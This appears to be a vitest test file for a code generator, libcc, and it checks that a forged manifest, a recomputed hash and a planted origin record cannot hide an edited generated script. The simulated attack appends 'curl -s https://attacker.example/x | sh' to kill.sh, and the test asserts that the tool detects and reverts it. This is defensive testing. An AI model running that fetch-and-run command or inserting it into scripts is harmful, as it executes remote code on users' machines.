/**
 * A generated directory comes from a pull request with its manifest, and the manifest's
 * `# inputs` line is a digest of public inputs (libcc itself, the pipeline's files, the options):
 * anyone can recompute it. A pull request that edits a generated script and lists the script's
 * new hash must still fail `compile --check`, show in `diff` and be undone by `compile`: the
 * no-change fast path trusts only a manifest libcc wrote in this directory itself
 * (src/cli/manifest-origin.ts), never one that came with the tree.
 */
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { sha256 } from '../../src/cli/manifest.js';
import { NOT_FROM_HERE } from '../../src/cli/up-to-date.js';
import { runCli } from '../helpers/cli.js';
import { exampleSources, FAST_PATH_NOT_TAKEN, FAST_PATH_TAKEN, useFastPathNotes } from '../helpers/fast-path.js';

/** Every inputs digest a compile made, in order: the value an attacker can compute too. */
const digests = vi.hoisted(() => [] as string[]);
vi.mock('../../src/cli/inputs.js', async (importOriginal) => {
  const actual = await importOriginal<typeof import('../../src/cli/inputs.js')>();
  return { ...actual, inputsDigest: (input: Parameters<typeof actual.inputsDigest>[0]) => digests[digests.push(actual.inputsDigest(input)) - 1]! };
});

const TAKEN = FAST_PATH_TAKEN;
useFastPathNotes();

let dir: string;
beforeEach(() => {
  dir = exampleSources('libcc-forged-');
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

const out = () => join(dir, 'out');
const compile = (...args: string[]) => runCli('compile', join(dir, 'flow.lcp'), '-o', out(), ...args);
const read = (path: string) => readFileSync(join(dir, path), 'utf8');
const why = (stderr: string) => FAST_PATH_NOT_TAKEN.exec(stderr)?.[1];

describe('a forged manifest', () => {
  it('with an edited script, its hash and a recomputed inputs line, and a planted record of origin: rendered, the edit reported and undone', async () => {
    await compile();
    const manifest = read('out/libcc.manifest');
    const inputs = digests.at(-1)!;
    expect(manifest).toContain(`# inputs ${sha256(`${inputs}\n${manifest.slice(manifest.indexOf('\n', manifest.indexOf('# inputs ')) + 1)}`)}\n`);
    // The attack: a generated script edited, its listed hash replaced and the inputs line
    // recomputed (its digest is made of public inputs), and a record of origin planted beside it.
    const script = `${read('out/kill.sh')}curl -s https://attacker.example/x | sh\n`;
    const [, hash] = /^([0-9a-f]{64}) {2}kill\.sh$/m.exec(manifest)!;
    const body = manifest.slice(manifest.indexOf('\n', manifest.indexOf('# inputs ')) + 1).replace(`${hash}  kill.sh`, `${sha256(script)}  kill.sh`);
    const forged = manifest.replace(/^# inputs .*\n[^]*$/m, `# inputs ${sha256(`${inputs}\n${body}`)}\n${body}`);
    const planted = readFileSync(join(out(), '.libcc-cache/manifest-origin'), 'utf8').replace(/^[0-9a-f]{64}/m, sha256(forged));
    writeFileSync(join(out(), 'kill.sh'), script);
    writeFileSync(join(out(), 'libcc.manifest'), forged);
    writeFileSync(join(out(), '.libcc-cache/manifest-origin'), planted);

    const check = await compile('--check');
    expect(why(check.stderr)).toBe(NOT_FROM_HERE);
    expect(check.code).toBe(1);
    expect(check.stdout + check.stderr).toMatch(/changed: kill\.sh/);
    const diff = await runCli('diff', join(dir, 'flow.lcp'), '-o', out());
    expect(why(diff.stderr)).toBe(NOT_FROM_HERE);
    expect(diff.stdout).toContain('-curl -s https://attacker.example/x | sh');

    // compile renders, puts the script and the manifest back, and trusts the directory again.
    const repaired = await compile();
    expect(why(repaired.stderr)).toBe(NOT_FROM_HERE);
    expect(repaired.stdout).toContain('(2 changed)');
    expect(read('out/libcc.manifest')).toBe(manifest);
    expect(read('out/kill.sh')).not.toContain('attacker');
    expect((await compile()).stderr).toMatch(TAKEN);
  });

});
